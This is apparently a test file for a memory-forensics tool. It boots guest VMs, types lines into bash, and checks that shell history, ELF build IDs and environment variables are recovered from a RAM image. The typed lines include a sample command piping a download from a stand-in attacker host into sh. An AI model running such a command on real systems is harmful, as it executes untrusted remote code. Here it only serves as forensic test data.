# SPDX-License-Identifier: LGPL-2.1-or-later
"""A guest with a real bash: what was typed into it, and with which build id it runs. Each test yields
problems."""

import re
import subprocess
from pathlib import Path

import guest
import kernels
from remote import compiled
from tool import text_bytes

TYPED = ["curl http://evil.example/x | sh", "echo 'two  blanks' \\", "continued", *(
    f"echo line {number}" for number in range(40)), "export SECRET=hunter2"]
# bash keeps a line and what continues it as one.
KEPT = [TYPED[0], "echo 'two  blanks' continued", *TYPED[3:]]
# Under its own name and another one: no name of a program is believed.
SHELLS = ("/bin/bash", "/bin/unremarkable")
HIDDEN = b"hidden among stamps"  # the only line of programs/stamps.c


def plans(full):
    return ["bookworm", *(["bullseye", "backports", "trixie", "sid"] if full else [])]


def libraries(program):
    """What the dynamic linker loads for a program of this machine; {path in the guest: path}."""
    said = subprocess.run(["ldd", program], capture_output=True, text=True, check=True).stdout
    return {path: path for path in re.findall(r"(/\S+) \(0x", said)}


def build_id(path):
    said = subprocess.run(["readelf", "-n", path], capture_output=True, text=True, check=True)
    return re.search(r"Build ID: (\w+)", said.stdout)[1]


class Visit:
    """An image of a guest in which shells wait for their next line."""

    def __init__(self, machine, kernel, folder):
        self.libraries = libraries("/bin/bash")
        typed = folder / "typed"
        typed.write_text("".join(f"{line}\n" for line in TYPED))
        machine.boot(kernels.get(kernel), 256, output=16, files={
            "/typed": typed, "/bin/stamps": compiled("stamps", folder), **{shell: "/bin/bash" for shell in SHELLS}, **self.libraries})
        status, said = machine.said("/bin/stamps > /run/stamps 2>&1 & while ! busybox grep -q ready "
                                    "/run/stamps; do busybox sleep 1; done; echo $!")
        if status:
            raise guest.GuestError(said)
        self.crowded = int(said)
        self.pids = {shell: self.start(machine, shell) for shell in SHELLS}
        machine.freeze()
        self.image = machine.folder / "ram.img"
        machine.copy_ram(self.image)

    @staticmethod
    def start(machine, shell):
        """Its standard input stays open: it has read all, and waits."""
        status, said = machine.said(
            f"(cat /typed; exec busybox sleep 10000) 2> /dev/null | "
            f"HISTFILE= exec {shell} --norc -i > /dev/null 2>&1 & echo $!; busybox sleep 3")
        if status:
            raise guest.GuestError(said)
        return int(said)


def history(tool, visit):
    result = tool.run("history", visit.image, "--format", "json")
    if result.status != 3 or f"gap: process {visit.crowded}: only the first" not in result.stderr or \
            len(result.stderr.splitlines()) != 1:
        yield result.describe()
    rows = result.rows()
    for shell, pid in visit.pids.items():
        listed = [row for row in rows if row["pid"] == pid and row["number"]]
        told = [text_bytes(row, "command").decode() for row in listed]
        if told != KEPT or [row["number"] for row in listed] != list(range(1, len(KEPT) + 1)):
            yield f"{shell}: {told}, not {KEPT}"
    # What has no number may be remains of snprintf.
    hidden = [text_bytes(row, "command") for row in rows
              if row["pid"] == visit.crowded and row["number"]]
    if hidden != [HIDDEN]:
        yield f"stamps: {hidden}"
    strangers = {row["pid"] for row in rows} - {visit.crowded, *visit.pids.values()}
    if strangers:
        yield f"processes {strangers} have a history"
    return f"{len(rows)} lines"


def elf(tool, visit):
    rows = tool.rows("elf", visit.image)
    for shell, pid in visit.pids.items():
        told = {row["path"]: row["build_id"] for row in rows if row["pid"] == pid}
        vdso = told.pop("[vdso]", None)
        wanted = {shell: build_id("/bin/bash"),
                  **{path: build_id(path) for path in visit.libraries}}
        if told != wanted or not vdso:
            yield f"{shell}: {told}, not {wanted}; [vdso] is {vdso}"
    return f"{len(rows)} files"


def env(tool, visit):
    """What was exported later is no part of what a process was started with."""
    for shell, pid in visit.pids.items():
        told = {row["name"]: row["value"] for row in tool.rows("env", visit.image, "--pid", pid)}
        if told.get("HISTFILE") != "" or "SECRET" in told:
            yield f"{shell}: {told}"


TESTS = (history, elf, env)


def check_all(session):
    for kernel in plans(session.options.full):
        name = f"shells-{kernel}"
        if not any(session.results.wants(f"{name}: {test.__name__}") for test in TESTS):
            continue
        with guest.Guest(session.folder / name) as machine:
            try:
                visit = Visit(machine, kernel, session.folder)
            except (guest.GuestError, kernels.FetchError) as error:
                session.results.fail(f"{name}: boot", error)
                continue
            for test in TESTS:
                session.results.check(f"{name}: {test.__name__}", test, session.tool, visit)
